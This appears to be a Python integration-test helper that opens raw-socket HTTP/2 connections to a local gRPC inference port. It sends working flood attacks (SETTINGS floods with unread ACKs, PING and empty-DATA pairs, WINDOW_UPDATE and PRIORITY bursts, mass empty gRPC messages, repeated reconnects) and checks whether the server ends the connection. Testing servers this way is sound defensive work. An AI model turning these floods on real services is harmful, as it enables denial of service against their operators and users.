"""Hostile HTTP/2 clients of the gRPC port on raw sockets (issue 22, findings 1 and 2), for
tests/integration/test_grpc_http2_floods.py.

A flood is ``FLOODS[name](port, deadline) -> what one connection saw``: its frames are built
once in 64 KiB blocks and written as fast as the socket takes them until the server ends the
connection or ``deadline``; a reader thread (except for the client that never reads) drains
what the server sends, notes its GOAWAY and checks the gRPC answers. ``repeat`` floods on
new connections, one after the other, until a deadline: an attacker that reconnects."""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import hpack
from tritonclient.grpc import service_pb2 as pb

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 4, 6, 7, 8
END_HEADERS = 0x4
STREAM_PATH = "/inference.GRPCInferenceService/ModelStreamInfer"
BLOCK = 1 << 16  # bytes per write
EMPTY_MESSAGES = (1 << 20) // 5  # empty gRPC messages in one 1 MiB DATA frame
STREAMS = 16  # ModelStreamInfer streams of the empty-messages flood (16 MiB: the conn window)
BIG_WINDOW = (1 << 31) - 1
ENHANCE_YOUR_CALM = 11


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", sid) + payload


def stream_headers(sid: int) -> bytes:
    block = hpack.Encoder().encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", STREAM_PATH),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )
    return frame(HEADERS, END_HEADERS, sid, block)


def repeated(frames: bytes) -> bytes:
    """``frames`` repeated to fill one write block."""
    return frames * max(1, BLOCK // len(frames))


@dataclass
class Seen:
    """What the server sent one hostile connection."""

    received: int = 0
    goaway: tuple[int, bytes] | None = None  # (error code, debug data)
    closed: bool = False  # EOF or reset: the server ended the connection
    answers: int = 0  # gRPC messages on the streams, each a ModelStreamInferResponse
    bad_answers: int = 0  # of those, not an in-stream error message
    window: dict[int, int] = field(default_factory=dict)  # our send windows (sid 0: conn)
    changed: threading.Condition = field(default_factory=threading.Condition)
    _pending: bytearray = field(default_factory=bytearray)
    _streams: dict[int, bytearray] = field(default_factory=dict)

    def feed(self, chunk: bytes) -> None:
        self.received += len(chunk)
        pending = self._pending
        pending += chunk
        while len(pending) >= 9:
            length = int.from_bytes(pending[:3], "big")
            if len(pending) < 9 + length:
                return
            kind, sid = pending[3], int.from_bytes(pending[5:9], "big") & 0x7FFFFFFF
            payload = bytes(pending[9 : 9 + length])
            del pending[: 9 + length]
            self._frame(kind, sid, payload)

    def _frame(self, kind: int, sid: int, payload: bytes) -> None:
        if kind == GOAWAY and self.goaway is None:
            self.goaway = (int.from_bytes(payload[4:8], "big"), payload[8:])
        elif kind == WINDOW_UPDATE:
            with self.changed:
                increment = int.from_bytes(payload, "big") & 0x7FFFFFFF
                self.window[sid] = self.window.get(sid, 0) + increment
                self.changed.notify_all()
        elif kind == DATA and sid:
            self._messages(self._streams.setdefault(sid, bytearray()), payload)

    def _messages(self, buffer: bytearray, payload: bytes) -> None:
        buffer += payload
        while len(buffer) >= 5 and len(buffer) >= 5 + int.from_bytes(buffer[1:5], "big"):
            end = 5 + int.from_bytes(buffer[1:5], "big")
            answer = pb.ModelStreamInferResponse.FromString(bytes(buffer[5:end]))
            del buffer[:end]
            self.answers += 1
            self.bad_answers += not answer.error_message

    def ended(self) -> None:
        with self.changed:
            self.closed = True
            self.changed.notify_all()

    def summary(self) -> dict[str, Any]:
        goaway = None
        if self.goaway is not None:
            goaway = {"code": self.goaway[0], "debug": self.goaway[1].decode(errors="replace")}
        return {
            "received_mib": round(self.received / (1 << 20), 2),
            "goaway": goaway,
            "closed_by_server": self.closed,
            "answers": self.answers,
            "bad_answers": self.bad_answers,
        }


class _Deadline:
    """Shuts ``sock`` down at ``deadline``, so that a blocked send or receive returns (the
    socket blocks: a send with a timeout may stop inside a frame); ``passed`` says whether
    that is why they did."""

    def __init__(self, sock: socket.socket, deadline: float) -> None:
        self.passed = False
        self._sock = sock
        self._timer = threading.Timer(max(0.0, deadline - time.monotonic()), self._shut)
        self._timer.daemon = True
        self._timer.start()

    def _shut(self) -> None:
        self.passed = True
        try:
            self._sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass

    def cancel(self) -> None:
        self._timer.cancel()


def _read_all(sock: socket.socket, seen: Seen, watch: _Deadline) -> None:
    while True:
        try:
            chunk = sock.recv(1 << 18)
        except OSError:
            chunk = b""
        if not chunk:
            if not watch.passed:
                seen.ended()
            return
        seen.feed(chunk)


def _connect(port: int, big_window: bool = False, rcvbuf: int | None = None) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.connect((HOST, port))
    settings = struct.pack(">HI", 0x4, BIG_WINDOW) if big_window else b""  # INITIAL_WINDOW
    hello = PREFACE + frame(SETTINGS, 0, 0, settings)
    if big_window:
        hello += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", BIG_WINDOW - 65535))
    sock.sendall(hello)
    return sock


def _blast(sock: socket.socket, block: bytes, watch: _Deadline, seen: Seen) -> dict[str, Any]:
    """Writes ``block`` until the deadline, a GOAWAY, or the end of the connection;
    ``stalled_s``: how long writes waited for the server to read (those over 0.2 s)."""
    sent, stalled, error = 0, 0.0, None
    while not (watch.passed or seen.closed or seen.goaway):
        before = time.monotonic()
        try:
            sock.sendall(block)
        except OSError as exc:  # reset, broken pipe: the server ended it (or the deadline)
            if not watch.passed:
                seen.ended()
                error = type(exc).__name__
            break
        waited = time.monotonic() - before
        stalled += waited if waited > 0.2 else 0.0
        sent += len(block)
    return {"sent_mib": round(sent / (1 << 20), 2), "send_error": error,
            "stalled_s": round(stalled, 1)}  # fmt: skip


def _reading(port: int, deadline: float, opening: bytes, block: bytes) -> dict[str, Any]:
    sock = _connect(port)
    seen, watch = Seen(), _Deadline(sock, deadline)
    reader = threading.Thread(target=_read_all, args=(sock, seen, watch), daemon=True)
    reader.start()
    try:
        sock.sendall(opening)
        sent = _blast(sock, block, watch, seen)
        reader.join(max(0.0, deadline - time.monotonic()))  # until the connection's end
    finally:
        watch.cancel()
        sock.close()
        reader.join(2)
    return {**sent, **seen.summary()}


# -- the floods (one connection each) ----------------------------------------------------------
SETTING = struct.pack(">HI", 0x4, 65535)  # INITIAL_WINDOW_SIZE = its default: no effect


def unread(port: int, deadline: float, opening: bytes, block: bytes) -> dict[str, Any]:
    """``opening``, then ``block`` again and again, from a client that never reads a byte
    (what the server answers piles up); the bench's soak floods PING, WINDOW_UPDATE and
    PRIORITY frames so too."""
    sock = _connect(port, rcvbuf=4096)
    seen, watch = Seen(), _Deadline(sock, deadline)
    try:
        sock.sendall(opening)
        sent = _blast(sock, block, watch, seen)
    except OSError:  # the opening refused: the server ended it (or the deadline passed)
        sent = {"sent_mib": 0.0, "send_error": "opening", "stalled_s": 0.0}
        if not watch.passed:
            seen.ended()
    finally:
        watch.cancel()
        sock.close()
    return {**sent, **seen.summary()}


def settings_unread(port: int, deadline: float) -> dict[str, Any]:
    """SETTINGS frames from a client that never reads a byte (their ACKs pile up)."""
    return unread(port, deadline, b"", repeated(frame(SETTINGS, 0, 0, SETTING)))


def settings_read(port: int, deadline: float) -> dict[str, Any]:
    """SETTINGS frames from a client that reads everything (their ACKs included)."""
    return _reading(port, deadline, b"", repeated(frame(SETTINGS, 0, 0, SETTING)))


def ping_empty_data(port: int, deadline: float) -> dict[str, Any]:
    """A ModelStreamInfer stream, then PING + empty DATA pairs."""
    pair = frame(PING, 0, 0, b"tritium!") + frame(DATA, 0, 1)
    return _reading(port, deadline, stream_headers(1), repeated(pair))


def window_priority(port: int, deadline: float) -> dict[str, Any]:
    """A stream, then bursts of 200,000 WINDOW_UPDATE (+1) and PRIORITY frames."""
    pair = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    pair += frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))
    return _reading(port, deadline, stream_headers(1), pair * 100_000)


def empty_messages(port: int, deadline: float) -> dict[str, Any]:
    """ModelStreamInfer on ``STREAMS`` streams: 1 MiB DATA frames of ~209,000 empty
    messages each, as fast as the server's windows allow; every answer read and checked
    (our windows are 2 GiB)."""
    sock = _connect(port, big_window=True)
    seen, watch = Seen(), _Deadline(sock, deadline)
    sids = list(range(1, 2 * STREAMS, 2))
    seen.window = {0: 65535, **{sid: 1 << 20 for sid in sids}}  # + the server's WINDOW_UPDATE
    reader = threading.Thread(target=_read_all, args=(sock, seen, watch), daemon=True)
    reader.start()
    payload = b"\x00" * (5 * EMPTY_MESSAGES)
    frames = 0
    try:
        sock.sendall(b"".join(stream_headers(sid) for sid in sids))
        while not (watch.passed or seen.closed or seen.goaway):
            sid = sids[frames % len(sids)]
            with seen.changed:
                if not seen.changed.wait_for(
                    lambda s=sid: min(seen.window[0], seen.window[s]) >= len(payload), 0.5
                ):
                    continue
                seen.window[0] -= len(payload)
                seen.window[sid] -= len(payload)
            sock.sendall(frame(DATA, 0, sid, payload))
            frames += 1
    except OSError:
        if not watch.passed:
            seen.ended()
    finally:
        watch.cancel()
        sock.close()
        reader.join(2)
    return {"data_frames": frames, "messages": frames * EMPTY_MESSAGES, **seen.summary()}


FLOODS: dict[str, Callable[[int, float], dict[str, Any]]] = {
    "settings_unread": settings_unread,
    "settings_read": settings_read,
    "ping_empty_data": ping_empty_data,
    "window_priority": window_priority,
    "empty_messages": empty_messages,
}


CONNECTION_MIN_S = 5.0  # each connection's own deadline at least this far: time to be ended


def repeat(
    name: str, port: int, deadline: float, more: Callable[[], bool] = lambda: False
) -> list[dict[str, Any]]:
    """``FLOODS[name]`` on one new connection after another until ``deadline`` (and after it
    while ``more()``); what each connection saw."""
    seen = []
    while time.monotonic() < deadline or more():
        own = max(deadline, time.monotonic() + CONNECTION_MIN_S)
        seen.append(FLOODS[name](port, own))
    return seen
